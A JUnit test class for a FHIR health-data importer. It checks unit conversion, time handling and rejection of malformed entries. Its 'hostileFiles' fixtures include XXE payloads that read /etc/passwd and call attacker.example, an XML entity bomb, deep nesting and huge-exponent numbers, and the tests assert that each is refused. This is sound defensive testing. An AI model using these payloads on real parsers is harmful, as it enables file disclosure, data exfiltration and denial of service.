package app.wellkeep.ingest.fhir;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.io.InputStream;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.time.ZoneId;
import java.util.Arrays;
import java.util.List;
import java.util.Map;
import java.util.stream.Stream;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.EnumSource;
import org.junit.jupiter.params.provider.MethodSource;

import com.code_intelligence.jazzer.junit.FuzzTest;

import app.wellkeep.ingest.ImportContext;
import app.wellkeep.ingest.ImportException;
import app.wellkeep.ingest.ImportException.Problem;
import app.wellkeep.ingest.Importer;
import app.wellkeep.ingest.RecordingSink;
import app.wellkeep.ingest.RecordingSink.Reading;
import app.wellkeep.ingest.RecordingSink.Rejected;
import app.wellkeep.ingest.Rejection;
import app.wellkeep.vitals.Metric;

class FhirImporterTest {

    private static final ImportContext CHICAGO = new ImportContext("upload", ZoneId.of("America/Chicago"));
    private static final String FALLBACK = "FHIR import";
    private static final double LB = 0.45359237;
    private static final double MMOL = 18.016;
    private static final double KPA = 7.50061683;

    private final FhirImporter importer = new FhirImporter();

    static byte[] fixture(String name) {
        try (InputStream in = FhirImporterTest.class.getResourceAsStream("/ingest/fhir/" + name)) {
            return in.readAllBytes();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    RecordingSink read(byte[] file) throws IOException {
        RecordingSink sink = new RecordingSink();
        importer.read(CHICAGO, new ByteArrayInputStream(file), sink);
        return sink;
    }

    RecordingSink read(String file) throws IOException {
        return read(file.getBytes(StandardCharsets.UTF_8));
    }

    Problem problem(byte[] file) {
        return assertThrows(ImportException.class, () -> read(file)).problem();
    }

    static Reading at(long position, Metric metric, String moment, int offset, double value, String source) {
        return new Reading(metric, Instant.parse(moment), Instant.parse(moment), offset, value, "", source, position);
    }

    static Reading over(long position, Metric metric, String start, String end, int offset, double value,
            String source) {
        return new Reading(metric, Instant.parse(start), Instant.parse(end), offset, value,
                metric == Metric.SLEEP ? "ASLEEP" : "", source, position);
    }

    /** Field by field, the value to within rounding of the unit conversion. */
    static void assertReadings(List<Reading> expected, List<Reading> actual) {
        assertEquals(expected.size(), actual.size(), () -> "readings " + actual);
        for (int i = 0; i < expected.size(); i++) {
            Reading want = expected.get(i);
            Reading got = actual.get(i);
            assertEquals(want.value(), got.value(), 1e-9, "value of " + got);
            assertEquals(want, new Reading(got.metric(), got.start(), got.end(), got.utcOffsetSeconds(), want.value(),
                    got.stage(), got.source(), got.position()));
        }
    }

    @Test
    void readsEverySupportedCodeOfATransactionBundle() throws IOException {
        RecordingSink sink = read(fixture("transaction-bundle.json"));

        int cdt = -5 * 3600;
        String omron = "Omron HEM-7155T";
        assertReadings(List.of(at(4, Metric.HEART_RATE, "2024-10-25T12:04:44Z", cdt, 72, "Apple Watch Series 9"),
                at(5, Metric.RESTING_HEART_RATE, "2024-10-25T04:00:00Z", 7200, 58, FALLBACK),
                at(6, Metric.SYSTOLIC, "2024-10-25T13:15:00Z", cdt, 128, omron),
                at(6, Metric.DIASTOLIC, "2024-10-25T13:15:00Z", cdt, 82, omron),
                at(7, Metric.WEIGHT, "2024-10-24T21:30:00Z", 0, 165 * LB, FALLBACK),
                at(8, Metric.WEIGHT, "2024-10-23T05:45:12.345Z", 3600, 74.2, FALLBACK),
                over(9, Metric.STEPS, "2024-10-25T05:00:00Z", "2024-10-26T04:59:59Z", cdt, 8421, FALLBACK),
                // A date alone: the whole day in the importing person's zone.
                over(10, Metric.STEPS, "2024-10-24T05:00:00Z", "2024-10-25T05:00:00Z", cdt, 10234, FALLBACK),
                at(11, Metric.GLUCOSE, "2024-10-25T12:30:00Z", cdt, 98, "Contour Next One"),
                at(12, Metric.GLUCOSE, "2024-10-25T17:10:00Z", cdt, 5.4 * MMOL, FALLBACK),
                at(13, Metric.GLUCOSE, "2024-10-25T23:40:00Z", cdt, 112, FALLBACK),
                at(14, Metric.OXYGEN_SATURATION, "2024-10-25T12:05:10Z", cdt, 97, FALLBACK),
                at(15, Metric.OXYGEN_SATURATION, "2024-10-25T12:06:00Z", cdt, 96, FALLBACK),
                over(16, Metric.SLEEP, "2024-10-25T03:47:00Z", "2024-10-25T11:12:00Z", cdt, 435, FALLBACK),
                at(17, Metric.HEART_RATE_VARIABILITY, "2024-10-25T11:30:00Z", cdt, 42, FALLBACK),
                at(18, Metric.BODY_TEMPERATURE, "2024-10-25T12:10:00Z", cdt, 37.0, FALLBACK),
                at(19, Metric.RESPIRATORY_RATE, "2024-10-25T12:10:30Z", cdt, 16, FALLBACK),
                at(20, Metric.BODY_MASS_INDEX, "2024-10-24T21:30:00Z", 0, 24.3, FALLBACK),
                at(21, Metric.BODY_FAT, "2024-10-24T21:30:00Z", 0, 21.5, FALLBACK),
                over(22, Metric.DISTANCE, "2024-10-25T05:00:00Z", "2024-10-26T05:00:00Z", cdt, 6200, FALLBACK),
                over(23, Metric.ACTIVE_ENERGY, "2024-10-25T05:00:00Z", "2024-10-26T05:00:00Z", cdt, 412, FALLBACK),
                at(26, Metric.HEART_RATE, "2024-10-25T14:00:00Z", cdt, 80, FALLBACK),
                at(27, Metric.HEART_RATE, "2024-10-25T14:30:00Z", cdt, 76, FALLBACK),
                at(34, Metric.HEART_RATE, "2024-10-25T16:00:00Z", cdt, 74, omron)), sink.readings);
        assertEquals(Map.of("Patient", 1, "Device", 1, "Encounter", 1, "Condition", 1, "MedicationRequest", 1,
                "Observation 72166-2", 1, "Observation 85353-1", 1, "Observation", 1,
                "Observation entered-in-error", 1, "Observation cancelled", 1), sink.skippedCounts());
        assertEquals(List.of(), sink.rejected);
    }

    @Test
    void rejectsEachEntryItCannotReadAndReadsTheRest() throws IOException {
        RecordingSink sink = read(fixture("searchset-rejections.json"));

        assertEquals(List.of(new Rejected(1, Rejection.MISSING_FIELD, "no value"),
                new Rejected(2, Rejection.MISSING_FIELD, "no effective time"),
                new Rejected(3, Rejection.UNKNOWN_UNIT, "unit 'furlongs/fortnight' for heart-rate"),
                new Rejected(4, Rejection.BAD_TIME, "effectiveDateTime is a date without a time"),
                new Rejected(5, Rejection.BAD_TIME, "not valid FHIR in element effectiveDateTime (HAPI-1821)"),
                new Rejected(6, Rejection.INVALID_FIELD, "not valid FHIR in element status (HAPI-1821)"),
                new Rejected(7, Rejection.INVALID_FIELD, "value of type string, not a Quantity"),
                new Rejected(8, Rejection.INVALID_FIELD, "valueQuantity with a comparator, not a measured value"),
                new Rejected(9, Rejection.MISSING_FIELD, "diastolic component: no value"),
                new Rejected(10, Rejection.BAD_INTERVAL, "effectivePeriod ends before it starts"),
                new Rejected(11, Rejection.INVALID_FIELD, "number beyond any measurement"),
                new Rejected(12, Rejection.INVALID_FIELD, "not a FHIR R4 resource type"),
                new Rejected(13, Rejection.INVALID_FIELD, "entry resource is not an object"),
                new Rejected(14, Rejection.MISSING_FIELD, "entry resource without a resourceType"),
                new Rejected(15, Rejection.BAD_TIME, "effective[x] of type Timing is no time"),
                new Rejected(16, Rejection.BAD_TIME, "effectiveDateTime less precise than a day"),
                new Rejected(17, Rejection.MISSING_FIELD, "valueQuantity without a unit"),
                new Rejected(18, Rejection.MISSING_FIELD, "valueQuantity without a value"),
                new Rejected(19, Rejection.MISSING_FIELD, "effectivePeriod without a start"),
                new Rejected(20, Rejection.INVALID_FIELD, "not valid FHIR in element value (HAPI-1821)"),
                new Rejected(23, Rejection.INVALID_FIELD, "entry is not an object")), sink.rejected);
        assertReadings(List.of(at(22, Metric.HEART_RATE, "2024-10-25T12:15:00Z", -5 * 3600, 61, FALLBACK)),
                sink.readings);
        assertEquals(Map.of("OperationOutcome", 1), sink.skippedCounts());
    }

    @Test
    void numbersLinesOfABulkExportAndConvertsTheirUnits() throws IOException {
        RecordingSink sink = read(fixture("Observation.ndjson"));

        int tokyo = 9 * 3600;
        assertReadings(List.of(at(1, Metric.HEART_RATE, "2024-10-25T12:04:44Z", tokyo, 64, "Fitbit Charge 6"),
                at(2, Metric.WEIGHT, "2024-10-24T22:00:00Z", tokyo, 61.4, FALLBACK),
                at(5, Metric.SYSTOLIC, "2024-10-24T22:05:00Z", tokyo, 15.2 * KPA, FALLBACK),
                at(5, Metric.DIASTOLIC, "2024-10-24T22:05:00Z", tokyo, 9.5 * KPA, FALLBACK),
                at(7, Metric.BODY_TEMPERATURE, "2024-10-24T22:02:00Z", tokyo, 36.6, FALLBACK)), sink.readings);
        assertEquals(List.of(new Rejected(6, Rejection.UNKNOWN_UNIT, "unit 'breaths per hour' for respiratory-rate")),
                sink.rejected);
        assertEquals(Map.of("Observation 8302-2", 1, "Observation entered-in-error", 1), sink.skippedCounts());
    }

    @Test
    void readsAnXmlBundleEntryByEntry() throws IOException {
        RecordingSink sink = read(fixture("collection-bundle.xml"));

        int cest = 2 * 3600;
        assertReadings(List.of(at(3, Metric.HEART_RATE, "2024-10-25T12:04:44Z", -5 * 3600, 72, "Polar H10"),
                at(4, Metric.WEIGHT, "2024-10-25T04:58:03Z", cest, 142.6 * LB, "Withings Body+ & Cardio"),
                at(5, Metric.SYSTOLIC, "2024-10-25T05:01:00Z", cest, 121, FALLBACK),
                at(5, Metric.DIASTOLIC, "2024-10-25T05:01:00Z", cest, 79, FALLBACK),
                at(6, Metric.BODY_TEMPERATURE, "2024-10-25T20:15:00Z", cest, 37.8, FALLBACK),
                at(9, Metric.GLUCOSE, "2024-10-25T05:20:00Z", cest, 5.9 * MMOL, FALLBACK)), sink.readings);
        assertEquals(
                List.of(new Rejected(10, Rejection.BAD_TIME,
                        "not valid FHIR in element effectiveDateTime (HAPI-1851)")),
                sink.rejected);
        assertEquals(Map.of("Patient", 1, "Device", 1, "Observation entered-in-error", 1, "Observation 2093-3", 1,
                "Condition", 1), sink.skippedCounts());
    }

    @Test
    void readsASingleObservation() throws IOException {
        RecordingSink sink = read(fixture("observation.json"));

        assertReadings(List.of(at(1, Metric.GLUCOSE, "2024-10-25T08:15:00Z", 19800, 6.1 * MMOL, "FreeStyle Libre 3")),
                sink.readings);
        assertEquals(Map.of(), sink.skippedCounts());
    }

    /** Every metric by its own LOINC code, in its stored unit, over a period (any metric may have one). */
    @ParameterizedTest
    @EnumSource(Metric.class)
    void readsEveryMetricByItsOwnCode(Metric metric) throws IOException {
        RecordingSink sink = read("""
                {"resourceType": "Observation", "status": "final",
                 "code": {"coding": [{"system": "http://loinc.org", "code": "%s"}]},
                 "effectivePeriod": {"start": "2024-10-25T07:00:00+01:00", "end": "2024-10-25T07:01:00+01:00"},
                 "valueQuantity": {"value": 42.5, "system": "http://unitsofmeasure.org", "code": "%s"}}
                """.formatted(metric.loinc(), metric.unit()));

        assertReadings(List.of(over(1, metric, "2024-10-25T06:00:00Z", "2024-10-25T06:01:00Z", 3600, 42.5, FALLBACK)),
                sink.readings);
    }

    @Test
    void countsASingleResourceOfAnotherTypeAsSkipped() throws IOException {
        RecordingSink sink = read(fixture("patient.json"));

        assertEquals(List.of(), sink.readings);
        assertEquals(List.of(), sink.rejected);
        assertEquals(Map.of("Patient", 1), sink.skippedCounts());
    }

    @Test
    void readsASingleObservationInXml() throws IOException {
        RecordingSink sink = read("""
                <Observation xmlns="http://hl7.org/fhir">
                  <status value="final"/>
                  <code><coding><system value="http://loinc.org"/><code value="59408-5"/></coding></code>
                  <effectiveInstant value="2024-10-25T07:04:44.120+01:00"/>
                  <valueQuantity><value value="98"/><unit value="%"/></valueQuantity>
                </Observation>
                """);

        assertReadings(List.of(at(1, Metric.OXYGEN_SATURATION, "2024-10-25T06:04:44.120Z", 3600, 98, FALLBACK)),
                sink.readings);
    }

    @Test
    void findsTheResourceTypeWhereverJsonPutsIt() throws IOException {
        RecordingSink sink = read("""
                {"type": "collection", "entry": [{"resource": {"status": "final",
                  "code": {"coding": [{"system": "http://loinc.org", "code": "8867-4"}]},
                  "effectiveDateTime": "2024-10-25T07:04:44Z", "valueQuantity": {"value": 70, "code": "/min"},
                  "resourceType": "Observation"}}], "resourceType": "Bundle"}
                """);

        assertReadings(List.of(at(1, Metric.HEART_RATE, "2024-10-25T07:04:44Z", 0, 70, FALLBACK)), sink.readings);
    }

    @Test
    void takesATimeWithoutOffsetAsLocalTimeOfThePerson() throws IOException {
        RecordingSink sink = read("""
                {"resourceType": "Observation", "status": "final",
                 "code": {"coding": [{"system": "http://loinc.org", "code": "8867-4"}]},
                 "effectiveDateTime": "2024-01-15T07:04:44", "valueQuantity": {"value": 70, "unit": "bpm"}}
                """);

        assertReadings(List.of(at(1, Metric.HEART_RATE, "2024-01-15T13:04:44Z", -6 * 3600, 70, FALLBACK)),
                sink.readings);
    }

    @Test
    void rejectsLinesOfNdjsonThatAreNoResource() throws IOException {
        RecordingSink sink = read(
                """
                        {"resourceType":"Patient","id":"1"}
                        42
                        {"id":"2"}
                        {"resourceType":"Nonsense"}

                        {"resourceType":"Observation","status":"final","code":{"coding":[{"system":"http://loinc.org","code":"9279-1"}]},"effectiveDateTime":"2024-10-25T07:00:00Z","valueQuantity":{"value":15,"code":"/min"}}
                        """);

        assertEquals(List.of(new Rejected(2, Rejection.INVALID_FIELD, "line is not a JSON object"),
                new Rejected(3, Rejection.MISSING_FIELD, "no resourceType"),
                new Rejected(4, Rejection.INVALID_FIELD, "not a FHIR R4 resource type")), sink.rejected);
        assertReadings(List.of(at(6, Metric.RESPIRATORY_RATE, "2024-10-25T07:00:00Z", 0, 15, FALLBACK)),
                sink.readings);
        assertEquals(Map.of("Patient", 1), sink.skippedCounts());
    }

    @Test
    void readsABundleWithADtdThatDeclaresNoEntity() throws IOException {
        RecordingSink sink = read("""
                <?xml version="1.0" encoding="UTF-8"?>
                <!DOCTYPE Bundle [<!ELEMENT Bundle ANY>]>
                <Bundle xmlns="http://hl7.org/fhir"><type value="collection"/><entry><resource><Observation>
                  <status value="final"/><code><coding><system value="http://loinc.org"/><code value="8867-4"/>
                  </coding></code><effectiveDateTime value="2024-10-25T07:04:44Z"/>
                  <valueQuantity><value value="55"/><code value="/min"/></valueQuantity>
                </Observation></resource></entry></Bundle>
                """);

        assertReadings(List.of(at(1, Metric.HEART_RATE, "2024-10-25T07:04:44Z", 0, 55, FALLBACK)), sink.readings);
    }

    /**
     * HAPI writes a decimal out in full as it parses it: {@code 1e999999999} would take gigabytes. Such a number is
     * refused before HAPI sees it, in either syntax, written as a number or as text.
     */
    @ParameterizedTest
    @CsvSource(delimiter = '|', value = {"{\"resourceType\":\"Bundle\",\"entry\":[{\"resource\":"
            + "{\"resourceType\":\"Observation\",\"valueQuantity\":{\"value\":1e999999999}}}]}",
            "{\"resourceType\":\"Bundle\",\"entry\":[{\"resource\":"
                    + "{\"resourceType\":\"Observation\",\"valueQuantity\":{\"value\":\"-2.5E-999999999\"}}}]}",
            "<Bundle xmlns='http://hl7.org/fhir'><entry><resource><Observation><valueQuantity>"
                    + "<value value='1e999999999'/></valueQuantity></Observation></resource></entry></Bundle>"})
    void refusesDecimalsWithHugeExponents(String file) throws IOException {
        RecordingSink sink = read(file);

        assertEquals(List.of(new Rejected(1, Rejection.INVALID_FIELD, "number beyond any measurement")),
                sink.rejected);
    }

    static Stream<Arguments> hostileFiles() {
        byte[] bundle = fixture("transaction-bundle.json");
        byte[] xml = fixture("collection-bundle.xml");
        String deepJson = "{\"resourceType\":\"Bundle\",\"entry\":[{\"resource\":{\"resourceType\":\"Observation\","
                + "\"extension\":" + "[".repeat(100) + "]".repeat(100) + "}}]}";
        String deepXml = "<Bundle xmlns=\"http://hl7.org/fhir\"><entry><resource><Observation>"
                + "<extension>".repeat(100) + "</extension>".repeat(100) + "</Observation></resource></entry></Bundle>";
        byte[] png = {(byte) 0x89, 'P', 'N', 'G', '\r', '\n', 0x1a, '\n', 0, 0, 0, 13, 'I', 'H', 'D', 'R'};
        byte[] gzip = {0x1f, (byte) 0x8b, 8, 0, 0, 0, 0, 0, 0, 3, (byte) 0xab, 0x56, 0x2a};
        return Stream.of(
                Arguments.of("external entity", utf8("""
                        <?xml version="1.0"?>
                        <!DOCTYPE Bundle [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
                        <Bundle xmlns="http://hl7.org/fhir"><entry><resource><Observation>
                        <note><text value="x"/></note><valueString>&xxe;</valueString>
                        </Observation></resource></entry></Bundle>"""), Problem.ENTITIES),
                Arguments.of("external entity in an attribute", utf8("""
                        <?xml version="1.0"?>
                        <!DOCTYPE Bundle [<!ENTITY xxe SYSTEM "http://attacker.example/leak">]>
                        <Bundle xmlns="http://hl7.org/fhir"><entry><resource><Observation>
                        <valueString value="&xxe;"/></Observation></resource></entry></Bundle>"""), Problem.ENTITIES),
                Arguments.of("entity bomb", utf8("""
                        <?xml version="1.0"?>
                        <!DOCTYPE Bundle [
                          <!ENTITY a "lol"> <!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">
                          <!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;"> <!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;">
                        ]>
                        <Bundle xmlns="http://hl7.org/fhir"><type value="&d;"/></Bundle>"""), Problem.ENTITIES),
                Arguments.of("deep JSON", utf8(deepJson), Problem.TOO_DEEP),
                Arguments.of("deep XML", utf8(deepXml), Problem.TOO_DEEP),
                Arguments.of("truncated JSON", Arrays.copyOf(bundle, bundle.length * 3 / 5), Problem.TRUNCATED),
                Arguments.of("truncated XML", Arrays.copyOf(xml, xml.length * 3 / 5), Problem.TRUNCATED),
                Arguments.of("Latin-1 JSON",
                        "{\"resourceType\":\"Patient\",\"name\":[{\"family\":\"M\u00fcller\"}]}"
                                .getBytes(StandardCharsets.ISO_8859_1),
                        Problem.NOT_UTF8),
                Arguments.of("Latin-1 XML",
                        "<Bundle xmlns=\"http://hl7.org/fhir\"><id value=\"M\u00fcller\"/></Bundle>"
                                .getBytes(StandardCharsets.ISO_8859_1),
                        Problem.NOT_UTF8),
                Arguments.of("UTF-16 JSON", "{\"resourceType\":\"Bundle\"}".getBytes(StandardCharsets.UTF_16),
                        Problem.NOT_UTF8),
                Arguments.of("UTF-16 XML",
                        "<Bundle xmlns=\"http://hl7.org/fhir\"/>".getBytes(StandardCharsets.UTF_16LE),
                        Problem.NOT_UTF8),
                // The parser reads text only when it is asked for it, and complains unchecked.
                Arguments.of("a byte that is no UTF-8 in text", ("""
                        <Bundle xmlns="http://hl7.org/fhir"><entry><resource><Observation><text><div
                        xmlns="http://www.w3.org/1999/xhtml">pulse \u0094 fine</div></text></Observation></resource>
                        </entry></Bundle>""").getBytes(StandardCharsets.ISO_8859_1), Problem.NOT_UTF8),
                Arguments.of("PNG image", png, Problem.MALFORMED), Arguments.of("gzip data", gzip, Problem.MALFORMED),
                Arguments.of("empty", new byte[0], Problem.EMPTY),
                Arguments.of("white space", utf8(" \n\t\n"), Problem.EMPTY),
                Arguments.of("broken JSON", utf8("{\"resourceType\":\"Bundle\",\"entry\":[{\"resource\":}]}"),
                        Problem.MALFORMED),
                Arguments.of("duplicate keys",
                        utf8("{\"resourceType\":\"Observation\",\"status\":\"final\",\"status\":\"cancelled\"}"),
                        Problem.MALFORMED),
                Arguments.of("broken XML", utf8("<Bundle xmlns=\"http://hl7.org/fhir\"><entry></Bundle>"),
                        Problem.MALFORMED),
                Arguments.of("JSON array", utf8("[{\"resourceType\":\"Observation\"}]"), Problem.UNSUPPORTED_FORMAT),
                Arguments.of("JSON without resourceType",
                        utf8("{\"header\":{\"schema_id\":{\"name\":\"heart-rate\"}}}"),
                        Problem.UNSUPPORTED_FORMAT),
                Arguments.of("unknown resource type", utf8("{\"resourceType\":\"HealthData\"}"),
                        Problem.UNSUPPORTED_FORMAT),
                Arguments.of("entries outside a Bundle",
                        utf8("{\"entry\":[{\"resource\":{\"resourceType\":\"Patient\"}}],\"resourceType\":\"List\"}"),
                        Problem.UNSUPPORTED_FORMAT),
                Arguments.of("XML outside the FHIR namespace", utf8("<HealthData locale=\"en_US\"></HealthData>"),
                        Problem.UNSUPPORTED_FORMAT));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("hostileFiles")
    void refusesAFileItCannotRead(String what, byte[] file, Problem expected) {
        assertEquals(expected, problem(file));
    }

    static Stream<Arguments> heads() {
        return Stream.of(Arguments.of("bundle.json", "{\"resourceType\": \"Bundle\", \"type\": \"collection\"}", true),
                Arguments.of("Observation.ndjson", "{\"id\":\"1\",\"resourceType\":\"Observation\"}", true),
                Arguments.of("data/OBSERVATION.NDJSON", "", true),
                Arguments.of("obs.json", "\uFEFF  {\n  \"resourceType\" : \"Observation\"", true),
                Arguments.of("bundle.xml",
                        "<?xml version=\"1.0\"?><!-- export --><Bundle xmlns=\"http://hl7.org/fhir\">",
                        true),
                Arguments.of("bundle.xml",
                        "<!DOCTYPE Bundle [<!ELEMENT Bundle ANY>]><fhir:Bundle xmlns:fhir='http://hl7.org/fhir'>",
                        true),
                Arguments.of("obs.xml", "<Observation xmlns=\"http://hl7.org/fhir\"><status value=\"final\"/>", true),
                Arguments.of("export.xml",
                        "<?xml version=\"1.0\"?><!DOCTYPE HealthData [<!ELEMENT HealthData ANY>]><HealthData>", false),
                Arguments.of("bundle.xml", "<Bundle xmlns=\"urn:other\">", false),
                Arguments.of("patient.xml", "<Patient xmlns=\"http://hl7.org/fhir\">", false),
                Arguments.of("omh.json", "{\"header\": {\"schema_id\": {\"namespace\": \"omh\"}}, \"body\": {}}",
                        false),
                Arguments.of("heart_rate-2024-10-25.json",
                        "[{\"dateTime\": \"10/25/24 00:00:05\", \"value\": {\"bpm\": 61}}]", false),
                Arguments.of("notes.txt", "resourceType", false));
    }

    @ParameterizedTest(name = "{0}: {2}")
    @MethodSource("heads")
    void claimsFhirFilesOnly(String name, String head, boolean expected) {
        assertEquals(expected, importer.reads(name, head.getBytes(StandardCharsets.UTF_8)));
    }

    @Test
    void numbersItemsAndNamesItsFormat() {
        assertEquals("fhir", importer.format());
        assertEquals(Importer.Positions.ITEM, importer.positions());
    }

    @Test
    void keepsValuesOutOfRejectionDetails() throws IOException {
        RecordingSink sink = read(fixture("searchset-rejections.json"));

        assertFalse(sink.rejected.isEmpty());
        for (Rejected rejected : sink.rejected) {
            for (String value : List.of("72", "seventy", "25/10/2024", "done", "999", "128", "bpm")) {
                assertFalse(rejected.detail().contains(value), () -> rejected + " quotes " + value);
            }
        }
    }

    /** Whatever the bytes, the importer ends normally or refuses the file: no other exception, no hang. */
    @FuzzTest(maxDuration = "60s")
    void fuzz(byte[] data) throws IOException {
        byte[] head = Arrays.copyOf(data, Math.min(data.length, Importer.HEAD_BYTES));
        importer.reads("upload.json", head);
        RecordingSink sink = new RecordingSink();
        try {
            importer.read(CHICAGO, new ByteArrayInputStream(data), sink);
        } catch (ImportException refused) {
            assertTrue(refused.problem() != null);
            return;
        }
        for (Reading reading : sink.readings) {
            assertTrue(reading.source() != null && !reading.source().isBlank());
        }
    }

    private static byte[] utf8(String text) {
        return text.getBytes(StandardCharsets.UTF_8);
    }
}
